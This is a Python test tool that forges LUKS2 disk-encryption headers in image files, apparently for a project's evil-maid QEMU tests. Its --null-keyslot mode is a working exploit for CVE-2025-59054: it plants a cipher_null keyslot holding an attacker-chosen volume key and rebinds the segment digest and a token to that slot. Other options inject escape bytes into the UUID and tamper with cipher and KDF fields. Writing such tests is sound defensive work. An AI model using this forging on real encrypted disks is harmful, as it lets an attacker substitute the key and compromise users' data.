#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Forges a LUKS2 header offline, as an attacker who can write the disk but has no key would (test tool).

The JSON area of a LUKS2 header is authenticated by nothing but a sha256 checksum anyone can
recompute. This tool edits the JSON of the header in an image file and rewrites both header copies
(the primary at 0, the secondary at hdr_size) with their checksums recomputed as libcryptsetup
checks them, so `cryptsetup luksDump` loads the result. Used by test/host/t-forge.sh and the
evil-* QEMU scenarios; it never touches a device that is not named, and only edits in place.

Operations (in this order when several are given):
  --segment-cipher C      segment 0's encryption becomes C (e.g. cipher_null-ecb)
  --null-keyslot VKFILE   a working keyslot with area encryption cipher_null-ecb (CVE-2025-59054:
                          libcryptsetup < 2.8.1 opens it with any passphrase): the attacker's own
                          volume key (random, written to VKFILE) AF-split in clear into a free
                          keyslot area, segment 0's pbkdf2-sha256 digest recomputed for it (the
                          old keyslots no longer pass it), and a copy of the first token pointing
                          at the new keyslot
  --token ID              the token --null-keyslot copies (default: the first)
  --keyslot-kdf S:F=N     keyslot S's kdf field F (iterations, time, memory, cpus) becomes N
  --digest-iterations N   every digest's PBKDF2 iteration count becomes N
  --uuid TEXT             the binary header's UUID field (40 bytes) becomes TEXT (\\e is ESC)
  --print-json            print the (edited) JSON
  --print-data-offset     print segment 0's offset in bytes
Every edit bumps the sequence id of both copies.
"""

import argparse
import base64
import hashlib
import json
import os
import struct
import sys

MAGIC_PRIMARY = b"LUKS\xba\xbe"
MAGIC_SECONDARY = b"SKUL\xba\xbe"
BIN_SIZE = 4096  # the binary header; the JSON area follows it up to hdr_size
# Offsets in struct luks2_hdr_disk (lib/luks2/luks2.h), every integer big-endian.
OFF_VERSION, OFF_HDR_SIZE, OFF_SEQID = 6, 8, 16
OFF_CSUM_ALG, OFF_UUID, OFF_HDR_OFFSET, OFF_CSUM = 72, 168, 256, 448
UUID_LEN = 40
CSUM_LEN = 64
HDR_SIZES = (16384, 32768, 65536, 131072, 262144, 524288, 1048576, 2097152, 4194304)
MAX_HDR_SIZE = HDR_SIZES[-1]

AF_STRIPES = 4000
AF_HASH = "sha256"
KEYSLOT_ALIGN = 4096
NULL_CIPHER = "cipher_null-ecb"


def die(msg):
    print("luks2-forge: " + msg, file=sys.stderr)
    sys.exit(1)


def read_copy(f, offset, magic):
    """The binary header and JSON of the copy at offset; checks its magic, size and checksum."""
    f.seek(offset)
    head = f.read(BIN_SIZE)
    if len(head) != BIN_SIZE or head[:6] != magic:
        die("no LUKS2 header copy at byte %d" % offset)
    version, = struct.unpack(">H", head[OFF_VERSION:OFF_VERSION + 2])
    hdr_size, = struct.unpack(">Q", head[OFF_HDR_SIZE:OFF_HDR_SIZE + 8])
    if version != 2 or hdr_size not in HDR_SIZES:
        die("the header at byte %d is not LUKS2 (version %d, hdr_size %d)" % (offset, version, hdr_size))
    alg = head[OFF_CSUM_ALG:OFF_CSUM_ALG + 32].split(b"\0")[0]
    if alg != b"sha256":
        die("checksum algorithm %r: only sha256 is supported" % alg)
    area = f.read(hdr_size - BIN_SIZE)
    if len(area) != hdr_size - BIN_SIZE:
        die("the header at byte %d is cut short" % offset)
    if checksum(head, area) != head[OFF_CSUM:OFF_CSUM + 32]:
        die("the header at byte %d has a wrong checksum" % offset)
    text = area.split(b"\0")[0]
    return bytearray(head), hdr_size, json.loads(text.decode("utf-8"))


def checksum(head, area):
    """sha256 over the binary header with its csum field zeroed, then the JSON area (as libcryptsetup)."""
    h = bytearray(head)
    h[OFF_CSUM:OFF_CSUM + CSUM_LEN] = bytes(CSUM_LEN)
    return hashlib.sha256(bytes(h) + area).digest()


def write_copies(f, head, hdr_size, meta, seqid):
    """Both copies with meta as JSON, sequence id seqid, checksums recomputed."""
    text = json.dumps(meta, separators=(",", ":")).encode("utf-8")
    if len(text) >= hdr_size - BIN_SIZE:
        die("the forged JSON (%d bytes) does not fit the %d-byte JSON area" % (len(text), hdr_size - BIN_SIZE))
    area = text + bytes(hdr_size - BIN_SIZE - len(text))
    for offset, magic in ((0, MAGIC_PRIMARY), (hdr_size, MAGIC_SECONDARY)):
        h = bytearray(head)
        h[0:6] = magic
        h[OFF_SEQID:OFF_SEQID + 8] = struct.pack(">Q", seqid)
        h[OFF_HDR_OFFSET:OFF_HDR_OFFSET + 8] = struct.pack(">Q", offset)
        h[OFF_CSUM:OFF_CSUM + CSUM_LEN] = bytes(CSUM_LEN)
        h[OFF_CSUM:OFF_CSUM + 32] = checksum(h, area)
        f.seek(offset)
        f.write(bytes(h) + area)


def diffuse(buf, hash_name):
    """LUKS AF diffusion (lib/luks1/af.c): each hash-sized block hashed with its big-endian index."""
    size = hashlib.new(hash_name).digest_size
    out = bytearray()
    for i in range(0, (len(buf) + size - 1) // size):
        block = buf[i * size:(i + 1) * size]
        out += hashlib.new(hash_name, struct.pack(">I", i) + block).digest()[:len(block)]
    return bytes(out)


def af_split(key, stripes, hash_name):
    """LUKS anti-forensic split of key into stripes blocks (AF_split in lib/luks1/af.c)."""
    n = len(key)
    buf = bytes(n)
    out = bytearray()
    for _ in range(stripes - 1):
        block = os.urandom(n)
        out += block
        buf = diffuse(bytes(a ^ b for a, b in zip(block, buf)), hash_name)
    out += bytes(a ^ b for a, b in zip(key, buf))
    return bytes(out)


def b64(data):
    return base64.b64encode(data).decode("ascii")


def free_id(table, limit):
    for i in range(limit):
        if str(i) not in table:
            return str(i)
    die("no free id among %d" % limit)


def null_keyslot(f, meta, hdr_size, vkfile, token_id=None):
    """Adds the forged cipher_null keyslot, its digest and a copied token; returns the keyslot id."""
    keyslots, digests, tokens = meta["keyslots"], meta["digests"], meta["tokens"]
    key_size = int(meta["segments"]["0"].get("key_size", 0)) or \
        max((int(k["key_size"]) for k in keyslots.values()), default=64)
    slot = free_id(keyslots, 32)
    area_size = (key_size * AF_STRIPES + KEYSLOT_ALIGN - 1) // KEYSLOT_ALIGN * KEYSLOT_ALIGN
    offset = 2 * hdr_size
    for k in keyslots.values():
        offset = max(offset, int(k["area"]["offset"]) + int(k["area"]["size"]))
    offset = (offset + KEYSLOT_ALIGN - 1) // KEYSLOT_ALIGN * KEYSLOT_ALIGN
    if offset + area_size > 2 * hdr_size + int(meta["config"]["keyslots_size"]):
        die("no room for another keyslot area")
    vk = os.urandom(key_size)
    with open(vkfile, "wb") as out:
        out.write(vk)
    # cipher_null: the area holds the split volume key as it is; the KDF's output is never used.
    f.seek(offset)
    f.write(af_split(vk, AF_STRIPES, AF_HASH))
    keyslots[slot] = {
        "type": "luks2",
        "key_size": key_size,
        "af": {"type": "luks1", "stripes": AF_STRIPES, "hash": AF_HASH},
        "area": {"type": "raw", "offset": str(offset), "size": str(area_size),
                 "encryption": NULL_CIPHER, "key_size": key_size},
        "kdf": {"type": "pbkdf2", "hash": "sha256", "iterations": 1000, "salt": b64(os.urandom(32))},
    }
    # The attacker's volume key is the one segment 0 is opened with: the segment's digest becomes
    # its digest (the header keeps one digest, as thaw setup writes it). The old keyslots stay,
    # now failing the digest, so every key ends at the forged keyslot.
    seg_digest = [d for d in digests.values() if "0" in d["segments"]]
    if not seg_digest:
        die("no digest is bound to segment 0")
    salt = os.urandom(32)
    seg_digest[0].update({"keyslots": seg_digest[0]["keyslots"] + [slot], "salt": b64(salt),
                          "digest": b64(hashlib.pbkdf2_hmac("sha256", vk, salt,
                                                            int(seg_digest[0]["iterations"]), 32))})
    # The copied token makes the forged keyslot the one the token's key source is tried against.
    if tokens:
        src = token_id if token_id is not None else sorted(tokens, key=int)[0]
        if src not in tokens:
            die("no token %s to copy" % src)
        token = json.loads(json.dumps(tokens[src]))
        token["keyslots"] = [slot]
        tokens[free_id(tokens, 32)] = token
    return slot


def main():
    p = argparse.ArgumentParser(description="Forge the JSON of a LUKS2 header in an image file (test tool).")
    p.add_argument("image")
    p.add_argument("--segment-cipher")
    p.add_argument("--null-keyslot", metavar="VKFILE")
    p.add_argument("--token", metavar="ID")
    p.add_argument("--keyslot-kdf", metavar="S:F=N", action="append", default=[])
    p.add_argument("--digest-iterations", type=int)
    p.add_argument("--uuid")
    p.add_argument("--print-json", action="store_true")
    p.add_argument("--print-data-offset", action="store_true")
    a = p.parse_args()
    with open(a.image, "r+b") as f:
        head, hdr_size, meta = read_copy(f, 0, MAGIC_PRIMARY)
        read_copy(f, hdr_size, MAGIC_SECONDARY)
        seqid, = struct.unpack(">Q", head[OFF_SEQID:OFF_SEQID + 8])
        edited = False
        if a.segment_cipher is not None:
            meta["segments"]["0"]["encryption"] = a.segment_cipher
            edited = True
        if a.null_keyslot is not None:
            print("forged keyslot %s" % null_keyslot(f, meta, hdr_size, a.null_keyslot, a.token), file=sys.stderr)
            edited = True
        for spec in a.keyslot_kdf:
            try:
                slot, rest = spec.split(":", 1)
                field, value = rest.split("=", 1)
                value = int(value)
            except ValueError:
                die("--keyslot-kdf wants SLOT:FIELD=NUMBER, not %r" % spec)
            if slot not in meta["keyslots"] or field not in ("iterations", "time", "memory", "cpus"):
                die("no keyslot %s, or %s is not a kdf cost" % (slot, field))
            if not 1 <= value <= 0xFFFFFFFF:
                die("a kdf cost must fit a u32")
            meta["keyslots"][slot]["kdf"][field] = value
            edited = True
        if a.digest_iterations is not None:
            if not 1 <= a.digest_iterations <= 0xFFFFFFFF:
                die("iterations must fit a u32")
            for d in meta["digests"].values():
                d["iterations"] = a.digest_iterations
            edited = True
        if a.uuid is not None:
            text = a.uuid.replace("\\e", "\x1b").encode("utf-8")
            if len(text) >= UUID_LEN:
                die("a UUID has at most %d bytes" % (UUID_LEN - 1))
            head[OFF_UUID:OFF_UUID + UUID_LEN] = text + bytes(UUID_LEN - len(text))
            edited = True
        if edited:
            write_copies(f, head, hdr_size, meta, seqid + 1)
        if a.print_json:
            print(json.dumps(meta, indent=2))
        if a.print_data_offset:
            print(int(meta["segments"]["0"]["offset"]))


if __name__ == "__main__":
    main()
